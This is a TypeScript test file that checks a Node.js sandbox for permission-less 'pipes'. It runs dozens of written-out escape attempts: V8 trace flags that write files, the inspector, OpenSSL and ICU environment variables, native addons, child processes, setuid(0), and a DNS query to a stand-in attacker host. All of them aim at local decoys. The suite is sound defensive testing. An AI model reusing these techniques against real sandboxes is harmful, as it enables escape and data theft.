/**
 * The promise: a pipe without permissions reads and writes no file but its own, opens no connection and starts nothing. Here only the
 * runtime stands (Node's permission model and `lock-down.ts`), as on machines where the kernel offers no walls; hostile pipes use
 * every public interface of Node by which Node, V8, OpenSSL or the C library open something themselves.
 */
import { spawnSync } from 'node:child_process';
import { createSocket, type Socket as Datagrams } from 'node:dgram';
import { once } from 'node:events';
import { mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { createServer, type Server } from 'node:net';
import { endianness } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { ran } from '../../packages/daemon/src/pipes/run/run.fixture.ts';
import { temporaryFolder } from '../support/start-daemon.ts';
import { sized } from './plan.ts';

const SECRET = 'secret-caracal-5519';
/** The kernel is left out. */
const walls = {
  list: [],
  command: ({ args }: { args: readonly string[] }) => [process.execPath, ...args],
};

let home: string;
let listener: Server;
let datagrams: Datagrams;
/** Whatever arrives at addresses of this machine. */
const arrived: string[] = [];

beforeAll(async () => {
  listener = createServer((socket) => {
    arrived.push('connection');
    socket.destroy();
  }).listen(0, '127.0.0.1');
  datagrams = createSocket('udp4').bind(0, '127.0.0.1');
  datagrams.on('message', () => arrived.push('datagram'));
  await Promise.all([once(listener, 'listening'), once(datagrams, 'listening')]);
});
afterAll(() => {
  listener.close();
  datagrams.close();
});

beforeEach(() => {
  home = temporaryFolder();
  arrived.length = 0;
  mkdirSync(join(home, 'folder'));
  mkdirSync(join(home, 'attic'));
  writeFileSync(join(home, 'victim'), SECRET);
  const locales = join(
    home,
    `icudt${process.versions.icu?.split('.')[0]}${endianness() === 'LE' ? 'l' : 'b'}`,
  );
  mkdirSync(locales);
  for (const name of ['root', 'af', 'is', 'supplementalData']) {
    writeFileSync(join(locales, `${name}.res`), new Uint8Array(4096));
  }
  writeFileSync(join(home, 'cert.pem'), CERTIFICATE);
  writeFileSync(join(home, 'module.json'), JSON.stringify({ word: SECRET }));
  writeFileSync(join(home, 'package.json'), JSON.stringify({ name: 'p', main: `${SECRET}.js` }));
  writeFileSync(join(home, 'settings.env'), `WORD=${SECRET}\n`);
  const map = { version: 3, sources: [`${SECRET}.ts`], names: [], mappings: 'AAAA' };
  writeFileSync(join(home, 'map.json'), JSON.stringify(map));
});
afterEach(() => rmSync(home, { recursive: true, force: true }));

/** Nothing of the person was written, added, reported or sent, however the run ended. */
async function expectNothingReached(
  process: string,
  options: { head?: string; memoryMb?: number } = {},
) {
  const before = readdirSync(home, { recursive: true }).sort();
  const { memoryMb = 128, head = '' } = options;
  const values = {
    HOME: home,
    VICTIM: join(home, 'victim'),
    TCP: (listener.address() as AddressInfo).port,
    UDP: datagrams.address().port,
  };
  const constants = Object.entries(values).map(
    ([name, value]) => `const ${name} = ${JSON.stringify(value)};`,
  );
  const { end, logged } = await ran(
    { head: `${head}\n${constants.join('\n')}`, process },
    { walls, memoryMb },
  );
  const reported = JSON.stringify([end, logged]);
  expect(reported).not.toContain(SECRET);
  expect(reported).not.toContain('REACHED');
  expect(readFileSync(join(home, 'victim'), 'utf8')).toBe(SECRET);
  expect(readdirSync(home, { recursive: true }).sort()).toEqual(before);
  expect(arrived).toEqual([]);
  return end;
}

const EXHAUST = 'const all = []; for (;;) all.push(new Array(1000).fill(Math.random()));';

describe('a pipe that has V8 or Node write a file', () => {
  const FLAGS = [
    ['--redirect-code-traces', '--redirect-code-traces-to=VICTIM', '--trace-opt', '--trace-deopt'],
    ['--trace-turbo', '--trace-turbo-path=HOME', '--trace-turbo-file-prefix=turbo'],
    ['--prof', '--logfile=VICTIM', '--no-logfile-per-isolate'],
    ['--perf-basic-prof', '--perf-basic-prof-path=HOME'],
  ];
  const HOT = `for (let i = 0; i < 20000; i++) hot(i);
    await new Promise((resolve) => setTimeout(resolve, 200));`;
  test.each(sized({ short: FLAGS.slice(0, 1), whole: FLAGS }))(
    'by the flags of V8: %s',
    async (...flags) => {
      const set = flags.map((flag) => {
        const text = flag.replace('VICTIM', join(home, 'victim')).replace('HOME', home);
        return `try { v8.setFlagsFromString(${JSON.stringify(text)}) } catch {}`;
      });
      await expectNothingReached(`${set.join('\n')}\n${HOT}`, {
        head: `import v8 from 'node:v8';
        function hot(a) { let s = 0; for (let i = 0; i < 1000; i++) s += i ^ a; return s }`,
      });
    },
  );

  test('by its report when the heap is exhausted', async () => {
    await expectNothingReached(
      `try { Object.assign(process.report, { directory: HOME, filename: 'victim', reportOnFatalError: true }) } catch {}
       ${EXHAUST}`,
      { memoryMb: 64 },
    );
  });

  test('by a heap snapshot when the heap is exhausted', async () => {
    await expectNothingReached(
      `for (const code of [() => v8.setHeapSnapshotNearHeapLimit(1), () => process.chdir(HOME)]) try { code() } catch {}
       ${EXHAUST}`,
      { head: `import v8 from 'node:v8';`, memoryMb: 64 },
    );
  });
});

/** Each may throw; one that returns the word of a file, or says REACHED, has got through. */
const ATTEMPTS: Record<string, string> = {
  'a report by call': "process.report.writeReport(VICTIM); return 'REACHED'",
  'a report by its settings':
    "Object.assign(process.report, { directory: HOME, reportOnUncaughtException: true }); return 'REACHED'",
  'a heap snapshot': "v8.writeHeapSnapshot(HOME + '/heap'); return 'REACHED'",
  coverage: 'process.env.NODE_V8_COVERAGE = HOME; v8.takeCoverage(); v8.stopCoverage()',
  'the compile cache':
    "module.enableCompileCache(HOME + '/cache'); module.flushCompileCache(); return 'REACHED'",
  'the compile cache by the environment':
    "process.env.NODE_COMPILE_CACHE = HOME; module.enableCompileCache(); return 'REACHED'",
  'a trace': "trace.createTracing({ categories: ['node', 'v8'] }).enable(); return 'REACHED'",
  'a profile by the inspector':
    "const session = new inspector.Session(); session.connect(); return 'REACHED'",
  'a profile by V8': 'const profile = v8.startCpuProfile(); return String(profile.stop()).length',
  'the inspector of itself': "inspector.open(0, '127.0.0.1'); return 'REACHED'",
  'the inspector by a signal': "process.kill(process.pid, 'SIGUSR1'); return 'REACHED'",
  'the inspector of another': "process._debugProcess(process.ppid); return 'REACHED'",
  'certificates of the environment': `process.env.SSL_CERT_FILE = HOME + '/cert.pem'; process.env.SSL_CERT_DIR = HOME;
    const own = tls.getCACertificates('system').map((pem) => new crypto.X509Certificate(pem).subject);
    return own.some((subject) => subject.includes('caracal')) ? 'REACHED' : ''`,
  'extra certificates of the environment': `process.env.NODE_EXTRA_CA_CERTS = HOME + '/cert.pem';
    return tls.getCACertificates('extra').length > 0 ? 'REACHED' : ''`,
  'a module of OpenSSL': `process.env.OPENSSL_MODULES = HOME; process.env.OPENSSL_CONF = VICTIM;
    crypto.setFips(false); return crypto.getFips() ? 'REACHED' : ''`,
  'an engine of OpenSSL':
    "process.env.OPENSSL_ENGINES = HOME; crypto.setEngine('victim'); return 'REACHED'",
  'an engine of TLS': "tls.createSecureContext({ clientCertEngine: VICTIM }); return 'REACHED'",
  'a time zone': `process.env.TZ = ':' + VICTIM; return new Date(0).toString()`,
  'the environment of the C library':
    "Object.getOwnPropertyDescriptor(process, 'env').configurable && 'REACHED'",
  'a source map': `const file = ctx.outputFolder + '/mapped.cjs';
    fs.writeFileSync(file, 'exports.stack = new Error().stack;\\n//# sourceMappingURL=file://' + HOME + '/map.json');
    process.setSourceMapsEnabled(true); return module.createRequire(import.meta.url)(file).stack`,
  'a source map by its finder': "return JSON.stringify(module.findSourceMap(HOME + '/map.json'))",
  'settings of a file': 'process.loadEnvFile(HOME + "/settings.env"); return process.env.WORD',
  'a database':
    "new (process.getBuiltinModule('node:sqlite').DatabaseSync)(VICTIM); return 'REACHED'",
  'storage of pages': "globalThis.localStorage.setItem('a', 'b'); return 'REACHED'",
  'the system interface of WebAssembly':
    "new (process.getBuiltinModule('node:wasi').WASI)({ version: 'preview1', preopens: { '/': HOME } }); return 'REACHED'",
  'foreign functions': "Object.keys(process.getBuiltinModule('node:ffi')); return 'REACHED'",
  'native code': "process.dlopen({ exports: {} }, VICTIM); return 'REACHED'",
  'native code by a require':
    "module.createRequire(import.meta.url)(HOME + '/a.node'); return 'REACHED'",
  'bindings of the runtime': "process.binding('fs'); return 'REACHED'",
  'linked bindings': "process._linkedBinding('fs'); return 'REACHED'",
  'a module of a file':
    "return JSON.stringify(module.createRequire(import.meta.url)(HOME + '/module.json'))",
  'a module of a file by an import':
    "return JSON.stringify(await import('file://' + HOME + '/module.json', { with: { type: 'json' } }))",
  'a package by its folder': 'module.createRequire(import.meta.url)(HOME)',
  'a package by its finder':
    'return String(module.findPackageJSON("./x.js", "file://" + HOME + "/x.js")).includes(HOME) && "REACHED"',
  'a package by its reader': 'return JSON.stringify(module._readPackage(HOME))',
  'a thread':
    "new (process.getBuiltinModule('worker_threads').Worker)('', { eval: true }); return 'REACHED'",
  'hooks in a thread': "module.register('data:text/javascript,'); return 'REACHED'",
  'a process': "process.getBuiltinModule('child_process').spawnSync('/bin/true'); return 'REACHED'",
  'a process by its handle':
    "new (process.getBuiltinModule('child_process').ChildProcess)().spawn({ file: '/bin/true', args: [], stdio: [] }); return 'REACHED'",
  'a process in its place': "process.execve('/bin/true'); return 'REACHED'",
  'a process of the cluster': "process.getBuiltinModule('cluster').fork(); return 'REACHED'",
  'a run of tests': `const events = process.getBuiltinModule('node:test').run({ files: [VICTIM], isolation: 'none' });
    for await (const event of events) if (event.type === 'test:pass') return 'REACHED'`,
  'the history of a prompt': `const repl = process.getBuiltinModule('repl').start({ input: new stream.PassThrough(), output: new stream.PassThrough() });
    await new Promise((done) => repl.setupHistory(HOME + '/history', done))`,
  'a connection by TLS': `const { _handle } = new tls.TLSSocket();
    fs.stat(import.meta.filename, () => {});
    const [request] = process._getActiveRequests(); await pause();
    _handle._parent.connect(Object.assign(request, { oncomplete: () => {} }), '127.0.0.1', TCP)`,
  'a connection by a handle of TLS': `const { _handle } = new tls.TLSSocket();
    return new net.Socket({ handle: _handle._parent }).connect(TCP, '127.0.0.1')`,
  'a connection by HTTP': "http.get({ port: TCP, host: '127.0.0.1' }).on('error', () => {})",
  'a connection by an agent': "new http.Agent().createConnection({ port: TCP, host: '127.0.0.1' })",
  'a connection by HTTP/2': "process.getBuiltinModule('http2').connect('http://127.0.0.1:' + TCP)",
  'a connection by fetch': "await fetch('http://127.0.0.1:' + TCP)",
  'a connection that accepts': "net.createServer().listen(0); return 'REACHED'",
  'a listener by TLS': `const { _handle } = new tls.TLSSocket();
    if (_handle._parent.bind('127.0.0.1', 0) === 0) return 'REACHED'`,
  'a name by the servers of DNS': `const got = requests();
    try { dns.setServers(['127.0.0.1:' + UDP]) } catch {}
    fs.stat(import.meta.filename, () => {}); await pause();
    const query = got.FSREQCALLBACK[0]; query.oncomplete = () => {};
    got.DNSCHANNEL[0].queryTxt(query, 'word.attacker.example'); await pause()`,
  'a name by an own resolver':
    "new dns.Resolver().setServers(['127.0.0.1:' + UDP]); return 'REACHED'",
  'the servers of DNS': "dns.getServers(); return 'REACHED'",
  'the servers of DNS by a promise':
    "dns.promises.setServers(['127.0.0.1:' + UDP]); return 'REACHED'",
  'a datagram':
    "process.getBuiltinModule('dgram').createSocket('udp4').send('x', UDP, '127.0.0.1')",
  'inner objects by hooks': `const got = requests(); fs.stat(import.meta.filename, () => {}); await pause();
    return Object.values(got).flat().some((each) => each.constructor !== Object) && 'REACHED'`,
  'inner objects of now': `const got = await new Promise((resolve) =>
      fs.stat(import.meta.filename, () => resolve(async_hooks.executionAsyncResource())));
    return got.constructor !== Object && 'REACHED'`,
  'inner objects by a list': "return process._getActiveHandles().length > 0 && 'REACHED'",
  'another user': 'process.setuid(0); process.setgid(0)',
  // Broken locale data ends the process that reads it: see the control below.
  'locale data of the environment':
    "process.env.NODE_ICU_DATA = HOME; new Date(0).toLocaleString('af')",
  'locale data of its settings': `process.env.ICU_DATA = HOME; process.config.variables.icu_data_in = HOME;
    new Intl.DisplayNames(['is'], { type: 'region' }).of('US')`,
};

/** Each is given a path that exists and one that does not; what it says must not differ, but for the path. */
const WAYS_TO_PROBE: Record<string, string> = {
  'require.resolve': 'return own.resolve(path)',
  'require.resolve with folders':
    "return own.resolve('./' + path.split('/').at(-1), { paths: [HOME] })",
  'require.resolve from elsewhere':
    "return module.createRequire(HOME + '/x.js').resolve('./' + path.split('/').at(-1))",
  'require.resolve of a name': "return own.resolve('x/../../../' + '../'.repeat(9) + path)",
  require: 'return own(path)',
  'the search of modules': 'return module._findPath(path, [])',
  'the look at a file': 'return module._stat(path)',
  'the name of a module': 'return module._resolveFilename(path)',
  'the start of a program': 'return module.runMain(path)',
  'the package of a module': 'return module.findPackageJSON(path, import.meta.url)',
  'the package of an address': "return module.findPackageJSON('file://' + path)",
  'the package next to another':
    "return module.findPackageJSON('./' + path.split('/').at(-1), 'file://' + HOME + '/x.js')",
  import: 'return await import(path)',
  'import of an address': "return await import('file://' + path)",
  'import of an address in capitals': "return await import('FILE://' + path)",
  'import with a question': "return await import('file://' + path + '?x')",
  'import.meta.resolve': "return import.meta.resolve('file://' + path)",
  'hooks that say where from': `const { deregister } = module.registerHooks({ resolve: (name, context, next) =>
      next(name === 'probe:' ? './' + path.split('/').at(-1) : name, { ...context, parentURL: 'file://' + HOME + '/x.js' }) });
    try { return await import('probe:') } finally { deregister() }`,
  'hooks that load': `const hooks = module.registerHooks({ resolve: (name, context, next) =>
      name.startsWith('probe:') ? { url: 'file://' + path, format: 'module', shortCircuit: true } : next(name, context) });
    try { return await import('probe:' + path) } finally { hooks.deregister() }`,
  'the real path': 'return fs.realpathSync(path)',
  'the real path by bytes': 'return String(fs.realpathSync(Buffer.from(path)))',
  'the real path of an address': "return fs.realpathSync(new URL('file://' + path))",
  'the real path by the system': 'return fs.realpathSync.native(path)',
  'its own folder': 'process.chdir(path); return process.cwd()',
  existsSync: 'return fs.existsSync(path)',
  statSync: 'return fs.statSync(path, { throwIfNoEntry: false })',
  'a list of matches': 'return fs.globSync(path)',
  'a watch': 'return fs.watch(path).close()',
};

/** Each is given a file of the pipe that names another time zone, which shows in every date once the real environment has it. */
const WAYS_TO_THE_ENVIRONMENT: Record<string, string> = {
  'process.env': "process.env.TZ = 'Pacific/Chatham'",
  'another name of process.env': `(await import('node:process')).env.TZ = 'Pacific/Chatham';
    module.createRequire(import.meta.url)('process').env.TZ = 'Pacific/Chatham'`,
  'process.env of a prompt': `const repl = process.getBuiltinModule('repl').start({ input: new stream.PassThrough(), output: new stream.PassThrough() });
    repl.context.process.env.TZ = 'Pacific/Chatham'`,
  loadEnvFile: 'process.loadEnvFile(ENV)',
  'loadEnvFile without a path': 'process.loadEnvFile()',
  'another name of loadEnvFile': "(await import('node:process')).loadEnvFile(ENV)",
  'loadEnvFile put back': `delete process.loadEnvFile;
    Object.getPrototypeOf(process).loadEnvFile(ENV)`,
  'a thread that shares it': `const { Worker, SHARE_ENV } = process.getBuiltinModule('worker_threads');
    new Worker("process.env.TZ = 'Pacific/Chatham'", { eval: true, env: SHARE_ENV }); await pause(200)`,
  'a run of tests': `const { run } = process.getBuiltinModule('node:test');
    for await (const event of run({ files: [ENV], isolation: 'none', env: { TZ: 'Pacific/Chatham' } })) void event`,
  'a program in its place': "process.execve(process.execPath, [], { TZ: 'Pacific/Chatham' })",
};

test('a pipe cannot change the environment that native code reads', async () => {
  const tries = Object.entries(WAYS_TO_THE_ENVIRONMENT).map(
    ([name, code]) => `
    try { await Promise.race([(async () => { ${code} })(), pause(500)]) } catch {}
    if (new Date(0).getTimezoneOffset() === -765) ctx.log.info('REACHED by ' + ${JSON.stringify(name)});`,
  );
  const end = await expectNothingReached(
    `const ENV = ctx.outputFolder + '/.env';
    fs.writeFileSync(ENV, 'TZ=Pacific/Chatham\\nSSL_CERT_FILE=' + HOME + '/cert.pem');
    process.chdir(ctx.outputFolder);
    ${tries.join('\n')}
    for (const text of tls.getCACertificates('system')) ctx.log.info(new crypto.X509Certificate(text).subject);
    const known = ['process.env', 'process.loadEnvFile', 'process.allowedNodeEnvironmentFlags', 'util.parseEnv',
      'http.setGlobalProxyFromEnv', 'worker_threads.SHARE_ENV', 'worker_threads.getEnvironmentData', 'worker_threads.setEnvironmentData'];
    for (const name of module.builtinModules.filter((name) => name !== 'sys')) {
      for (const key of Object.getOwnPropertyNames(Object(process.getBuiltinModule(name)))) {
        if (/env/i.test(key) && !known.includes(name + '.' + key)) ctx.log.info('REACHED: nobody looked at ' + name + '.' + key);
      }
    }
    return ${tries.length};`,
    { head: HEAD },
  );
  expect(end).toMatchObject({ status: 'completed', itemsProcessed: tries.length });
});

/** Each collects what it gets hold of in `got`; the native object of a request to the file system must not be there. */
const WAYS_TO_INNER_OBJECTS: Record<string, string> = {
  'the class of a hook': `const hook = async_hooks.createHook({});
    new (hook.constructor)({ init: (id, type, cause, resource) => got.push(resource) }).enable(); await look()`,
  'the prototype of a hook': `const hook = Object.getPrototypeOf(async_hooks.createHook({ init() {} }));
    hook.enable.call(Object.assign(Object.create(hook), { init: (id, type, cause, resource) => got.push(resource) })); await look()`,
  'functions inside a hook': `const hook = async_hooks.createHook({ init() {} });
    for (const key of Reflect.ownKeys(hook)) hook[key] = (...all) => got.push(...all);
    hook.enable(); await look()`,
  'a setter that a request inherits': `Object.defineProperty(Object.prototype, 'oncomplete', { set(value) { got.push(this) }, configurable: true }); await look()`,
  'a setter on the class of all native objects': `let native = new tls.TLSSocket()._handle;
    while (Object.getPrototypeOf(Object.getPrototypeOf(native))) native = Object.getPrototypeOf(native);
    Object.defineProperty(native, 'oncomplete', { set(value) { got.push(this) }, configurable: true }); await look()`,
  'another class below all native objects': `let native = new tls.TLSSocket()._handle;
    while (Object.getPrototypeOf(Object.getPrototypeOf(native))) native = Object.getPrototypeOf(native);
    Object.setPrototypeOf(native, { set oncomplete(value) { got.push(this) } }); await look()`,
  'storage that follows calls': `const storage = new async_hooks.AsyncLocalStorage();
    storage._propagate = (...all) => got.push(...all); storage._enable?.();
    storage.run({}, () => fs.stat(import.meta.filename, function () { got.push(this, async_hooks.executionAsyncResource(), storage.getStore()) })); await look()`,
  'its own resource': `new async_hooks.AsyncResource('own').runInAsyncScope(() => got.push(async_hooks.executionAsyncResource())); await look()`,
  'the list of what is active': 'await look(); got.push(...process.getActiveResourcesInfo())',
  'news of the runtime': `const channels = process.getBuiltinModule('diagnostics_channel');
    for (const name of ['net.client.socket', 'net.server.socket', 'udp.socket', 'fs', 'tracing:fs:start', 'child_process', 'worker_threads', 'module.require.start'])
      channels.subscribe(name, (...all) => got.push(...all)); await look()`,
  'a domain': `const domain = process.getBuiltinModule('domain').create();
    domain.run(() => fs.stat(import.meta.filename, () => got.push(...domain.members))); await look()`,
  promises: `v8.promiseHooks.createHook({ init: (...all) => got.push(...all) }); await fs.promises.stat(import.meta.filename); await look()`,
};

test.each(Object.entries(WAYS_TO_INNER_OBJECTS))(
  'a pipe gets no native object of a request by %s',
  async (_name, code) => {
    const end = await expectNothingReached(
      `const got = [];
      const look = async () => { fs.stat(import.meta.filename, function () { got.push(this) }); await pause() };
      try { ${code} } catch (error) { ctx.log.debug(String(error)) }
      const classOf = (value) => { try { return value?.constructor?.name } catch {} };
      const found = got.map(classOf).filter((name) => /Req|Wrap/.test(name));
      if (found.length > 0) ctx.log.info('REACHED ' + found.join());
      return 1;`,
      { head: HEAD },
    );
    expect(end).toMatchObject({ status: 'completed', itemsProcessed: 1 });
  },
);

const HEAD = `
const { v8, module, crypto, tls, net, http, dns, fs, stream, inspector, async_hooks } = Object.fromEntries(
  ['v8', 'module', 'crypto', 'tls', 'net', 'http', 'dns', 'fs', 'stream', 'inspector', 'async_hooks'].map((name) => [name, process.getBuiltinModule(name)]));
const trace = process.getBuiltinModule('trace_events');
const pause = (ms = 50) => new Promise((resolve) => setTimeout(resolve, ms));
const requests = () => {
  const got = {};
  async_hooks.createHook({ init: (id, type, cause, resource) => (got[type] ??= []).push(resource) }).enable();
  return got;
};
for (const name of ['uncaughtException', 'unhandledRejection']) process.removeAllListeners(name).on(name, () => {});
`;

test('a pipe that has Node, V8, OpenSSL or the C library open something itself reaches nothing', async () => {
  const tries = Object.entries(ATTEMPTS).map(
    ([name, code]) => `
    try {
      const reported = await Promise.race([(async () => { ${code} })(), pause(300)]);
      if (reported) ctx.log.info(${JSON.stringify(name)} + ': ' + reported);
    } catch (error) { ctx.log.debug(String(error.stack)) }`,
  );
  const code = `${tries.join('\n')}\nawait pause(); return ${tries.length};`;
  const end = await expectNothingReached(code, { head: HEAD });
  expect(end).toMatchObject({ status: 'completed', itemsProcessed: tries.length });
});

test('a process that reads the locale data of the attempts ends', () => {
  const code = "new Date(0).toLocaleString('af')";
  const { signal, status } = spawnSync(process.execPath, ['-e', code], {
    env: { NODE_ICU_DATA: home },
    stdio: 'ignore',
  });
  expect([signal, status]).not.toEqual([null, 0]);
});

test('a pipe does not learn which files exist', async () => {
  const tries = Object.entries(WAYS_TO_PROBE).map(
    ([name, code]) => `
    {
      const tell = async (path) => {
        const words = (value) => String(value).replaceAll(path, 'PATH').replaceAll(path.split('/').at(-1), 'NAME');
        try { return 'gave ' + words(await (async () => { ${code} })()) }
        catch (error) { return words(error.code + ' ' + error.message) }
      };
      const answers = [];
      for (const path of PATHS) answers.push(await tell(path));
      process.chdir(ctx.outputFolder);
      if (new Set(answers).size > 1) ctx.log.info(${JSON.stringify(name)} + ' REACHED ' + answers.join(' | '));
    }`,
  );
  const code = `const own = module.createRequire(import.meta.url);
    const PATHS = ['/victim', '/absent', '/attic'].map((name) => HOME + name);
    ${tries.join('\n')}
    return ${tries.length};`;
  const end = await expectNothingReached(code, { head: HEAD });
  expect(end).toMatchObject({ status: 'completed', itemsProcessed: tries.length });
});

test('a pipe finds its own modules by every name', async () => {
  const { end } = await ran(
    {
      head: HEAD,
      process: `fs.mkdirSync(ctx.outputFolder + '/node_modules/words', { recursive: true });
      fs.writeFileSync(ctx.outputFolder + '/node_modules/words/index.js', 'module.exports = 1');
      fs.writeFileSync(ctx.outputFolder + '/own.mjs', "import words from 'words'; export default words");
      fs.writeFileSync(ctx.outputFolder + '/own.cjs', "module.exports = require('words') + require('./other')");
      fs.writeFileSync(ctx.outputFolder + '/other.js', 'export default 1; export { one as "module.exports" }; const one = 1;');
      const own = module.createRequire(ctx.outputFolder + '/x.js');
      process.chdir(ctx.outputFolder);
      const found = [(await import('file://' + ctx.outputFolder + '/own.mjs')).default, own('./own.cjs'), own('words'),
        fs.realpathSync('own.cjs').endsWith('own.cjs') ? 1 : 0, module.findPackageJSON(import.meta.url) ? 1 : 0];
      return found.reduce((sum, each) => sum + each);`,
    },
    { walls },
  );
  expect(end).toMatchObject({ errorMessage: null, itemsProcessed: 6 });
});

describe('every function of every module of Node, called with the path of a file', () => {
  /** They end the process, wait for ever, or write to its own output. */
  const LEFT_OUT =
    /^(_|process\.(exit|reallyExit|abort|_|openStdin|hrtime|emit|removeAll|set|once|on|add|prepend|nextTick)|readline|console|repl|test|timers|assert|events|http\.(get|request)|https)/;
  const SWEEP = `
    const seen = new Set(); let calls = 0;
    async function call(name, f, self, args) {
      calls += 1;
      try {
        let reported = Reflect.apply(f, self, args);
        if (reported && typeof reported.on === 'function') reported.on('error', () => {});
        reported = await Promise.race([reported, new Promise((resolve) => setTimeout(resolve, 20))]);
        const text = Buffer.isBuffer(reported) ? reported.toString() : String(typeof reported === 'object' ? JSON.stringify(reported) : reported);
        if (text.includes('caracal')) ctx.log.info('REACHED by ' + name);
      } catch {}
    }
    for (const name of module.builtinModules) {
      const own = process.getBuiltinModule(name);
      if (!own || seen.has(own)) continue;
      seen.add(own);
      const owners = [[name, own], [name + '.promises', own.promises], [name + '.default', own.default]];
      for (const [path, owner] of owners) {
        for (const key of Object.getOwnPropertyNames(Object(owner))) {
          const full = path + '.' + key;
          if (LEFT_OUT.test(full) || LEFT_OUT.test(key)) continue;
          let value; try { value = owner[key] } catch {}
          if (typeof value !== 'function') continue;
          for (const args of ARGUMENTS) await call(full, value, owner, args);
        }
      }
    }
    return calls;`;
  const SETS = [
    "[[VICTIM], [VICTIM, 'utf8'], [VICTIM, () => {}]]",
    "[[VICTIM, 'written'], [VICTIM, ctx.outputFolder + '/copy'], [ctx.outputFolder + '/own', VICTIM]]",
    "[[HOME + '/made'], [HOME + '/made', 'written'], [VICTIM, 0o777, () => {}], [VICTIM, 1, 2]]",
    "[[Buffer.from(VICTIM)], [new URL('file://' + VICTIM)], [{ path: VICTIM, filename: VICTIM, file: VICTIM }]]",
  ];
  test.each(sized({ short: SETS.slice(0, 2), whole: SETS }))('%s', async (args) => {
    const end = await expectNothingReached(
      `const ARGUMENTS = ${args}; const LEFT_OUT = ${LEFT_OUT};
       fs.writeFileSync(ctx.outputFolder + '/own', 'own'); ${SWEEP}`,
      { head: HEAD },
    );
    expect(end).toMatchObject({ status: 'completed', errorMessage: null });
    expect(end.itemsProcessed).toBeGreaterThan(1_000);
  });
});

/** Of nobody: its subject has a word that tests look for. */
const CERTIFICATE = `-----BEGIN CERTIFICATE-----
MIIBkjCCATmgAwIBAgIUcuJSkEG5pWXKIvjVtxImtQ04KeIwCgYIKoZIzj0EAwIw
HjEcMBoGA1UEAwwTc2VjcmV0LWNhcmFjYWwtNTUxOTAgFw0yNjExMTcwMTM0MTVa
GA8yMTI2MTAyNDAxMzQxNVowHjEcMBoGA1UEAwwTc2VjcmV0LWNhcmFjYWwtNTUx
OTBZMBMGByqGSM49AgEGCCqGSM49AwEHA0IABKMhEx7ybvTDvuOdPhaJdo779Yqe
wAqPDyDuJepoQwhoPdWVJUhGHlZk/wYYJSFToIsBl7R0T5vgUgIs81jTuaajUzBR
MB0GA1UdDgQWBBRGbaiDjQJuOt+IMbZ36detP5uEjzAfBgNVHSMEGDAWgBRGbaiD
jQJuOt+IMbZ36detP5uEjzAPBgNVHRMBAf8EBTADAQH/MAoGCCqGSM49BAMCA0cA
MEQCIHhtdhdFLJA/Ka7m1Yj+yet9ylRQaT+hLF/t1s1hZPtsAiAM4SDOQDCWN/BM
nS8g4SGxZX3+HAIFuwj636QGMrpBxw==
-----END CERTIFICATE-----`;
